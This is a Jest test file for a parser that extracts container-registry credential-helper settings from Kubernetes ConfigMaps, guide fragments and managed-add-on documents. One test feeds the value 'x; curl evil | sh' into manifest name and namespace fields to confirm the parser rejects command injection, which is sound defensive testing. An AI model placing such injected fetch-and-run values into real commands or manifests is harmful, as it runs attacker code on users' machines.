// Files that people have: ConfigMaps among other objects, fragments of guides, documents of the managed edition.
import { describe, expect, test } from '@jest/globals';
import { parseManifests, type FoundConfiguration } from '../../../src/core/manifests.ts';
import type { Issue } from '../../../src/core/types.ts';
import { FAKE_KEY_SECRET, GUIDE_MANIFESTS, MANAGED_DOCUMENT } from '../../support/vendor-samples.ts';

function found(text: string): readonly FoundConfiguration[] {
  const parsed = parseManifests(text);
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.issues));
  return parsed.value;
}

const issuesOf = (text: string): readonly Issue[] => parseManifests(text).issues;
const configMap = (name: string, data: unknown = { region: 'x' }) => ({
  apiVersion: 'v1',
  kind: 'ConfigMap',
  metadata: { name, namespace: 'kube-system' },
  data,
});
const place = { namespace: 'kube-system', name: 'acr-configuration' };
const nowhere = { namespace: undefined, name: undefined };
const managed = { 'watch-namespace': undefined, watchNamespace: 'all', enableRRSA: 'true' };

describe('a configuration is found in', () => {
  const one = configMap('acr-configuration');
  test.each<readonly [string, string, readonly FoundConfiguration[]]>([
    ['a manifest in JSON', JSON.stringify(one), [{ ...place, data: { region: 'x' } }]],
    ['a manifest without data', JSON.stringify(configMap('acr-configuration', null)), [{ ...place, data: {} }]],
    [
      'several documents, among other objects',
      `---\nkind: Secret\ndata: {a: Yg==}\n---\n${JSON.stringify(one)}\n---\n${JSON.stringify(configMap('b'))}\n---\n`,
      [
        { ...place, data: { region: 'x' } },
        { ...place, name: 'b', data: { region: 'x' } },
      ],
    ],
    [
      'a list of kubectl',
      JSON.stringify({ apiVersion: 'v1', kind: 'List', items: [one, { kind: 'Pod' }] }),
      [{ ...place, data: { region: 'x' } }],
    ],
    ['a fragment of a guide', 'data:\n  region: x\n', [{ ...nowhere, data: { region: 'x' } }]],
    [
      'the document of the managed edition',
      JSON.stringify({ watchNamespace: 'all', enableRRSA: true }),
      [{ ...nowhere, data: { watchNamespace: managed.watchNamespace, enableRRSA: managed.enableRRSA } }],
    ],
    [
      'a text in JSON, as Terraform passes it on',
      JSON.stringify(JSON.stringify({ 'acr-registry-info': '[{"instanceId": "cri-a"}]', 'watch-namespace': null })),
      [{ ...nowhere, data: { 'acr-registry-info': '[{"instanceId": "cri-a"}]' } }],
    ],
    [
      'the list of add-ons that the API takes',
      JSON.stringify([
        { name: 'managed-aliyun-acr-credential-helper', config: JSON.stringify({ watchNamespace: 'all' }) },
        { name: 'other' },
      ]),
      [{ ...nowhere, data: { watchNamespace: 'all' } }],
    ],
  ])('%s', (_, text, expected) => {
    expect(found(text)).toEqual(expected);
    expect(issuesOf(text)).toEqual([]);
  });

  test('the whole document of the managed edition, its list with lines of its own', () => {
    const data = found(JSON.stringify(MANAGED_DOCUMENT))[0]?.data ?? {};
    expect(data).toMatchObject({ expiringThreshold: '15m', enableRRSA: 'true', notifyEmail: 'cs@aliyuncs.com' });
    expect(JSON.parse(data.AcrInstanceInfo ?? '')).toEqual(MANAGED_DOCUMENT.AcrInstanceInfo);
  });
});

describe('[acr G1] F4, fields of metadata in different columns,', () => {
  test('is told with its line, and read as if they were aligned', () => {
    expect(found(GUIDE_MANIFESTS.enterprise)).toMatchObject([place]);
    expect(issuesOf(GUIDE_MANIFESTS.enterprise)).toMatchObject([
      { severity: 'warning', path: 'file', line: 13, message: expect.stringContaining('another column') },
      { severity: 'warning', path: 'metadata.selfLink', message: expect.stringContaining('leave it out') },
    ]);
  });

  test('is not there where only selfLink is', () => {
    expect(found(GUIDE_MANIFESTS.personal)[0]?.data['acr-registry-info']).toBe(
      '- instanceId: ""\n    regionId: "cn-hangzhou"',
    );
    expect(issuesOf(GUIDE_MANIFESTS.personal)).toMatchObject([{ path: 'metadata.selfLink' }]);
  });

  test('is not guessed anywhere else', () => {
    expect(issuesOf('metadata:\n name: a\n  namespace: b\ndata:\n  region: x\n   rrsa: y\n')).toMatchObject([
      { severity: 'error', path: 'file', line: 3 },
    ]);
  });
});

describe('what is told of a file:', () => {
  test.each([
    ['nothing in it', '', 'holds no configuration'],
    ['only other objects', 'kind: Pod\nmetadata: {}\n', 'holds no configuration'],
    ['another document', '{"a": 1}', 'holds no configuration'],
    ['only a number', '5', 'holds no configuration'],
    ['no YAML', 'data: {', 'is not YAML'],
    ['texts inside of texts without end', JSON.stringify('"'.repeat(9)), 'is not YAML'],
  ])('%s', (_, text, message) => {
    expect(parseManifests(text)).toMatchObject({
      ok: false,
      issues: [{ severity: 'error', path: 'file', message: expect.stringContaining(message) }],
    });
  });

  test('a value that is no text is read, and that kubectl refuses it', () => {
    const text = JSON.stringify(
      configMap('a', { 'expiring-threshold': 15, 'acr-registry-info': [{ instanceId: 'cri-a' }] }),
    );
    expect(issuesOf(text)).toMatchObject([
      { severity: 'warning', path: 'expiring-threshold' },
      { severity: 'warning', path: 'acr-registry-info' },
    ]);
    expect(found(text)[0]?.data['expiring-threshold']).toBe('15');
  });

  test('never a secret', () => {
    const text = `data:\n  acr-registry-info: |\n    - customAccessKeySecret: ${FAKE_KEY_SECRET}\n ${FAKE_KEY_SECRET}\n`;
    expect(JSON.stringify(parseManifests(text))).not.toContain(FAKE_KEY_SECRET);
  });
});

test.each(['namespace', 'name'])('a %s that is none is refused: it stands in commands that people paste', (field) => {
  const metadata = { namespace: 'n', name: 'c', [field]: 'x; curl evil | sh' };
  const parsed = parseManifests(JSON.stringify({ kind: 'ConfigMap', metadata, data: {} }));
  expect(parsed).toMatchObject({ ok: false, issues: [{ severity: 'error', path: `metadata.${field}` }] });
});
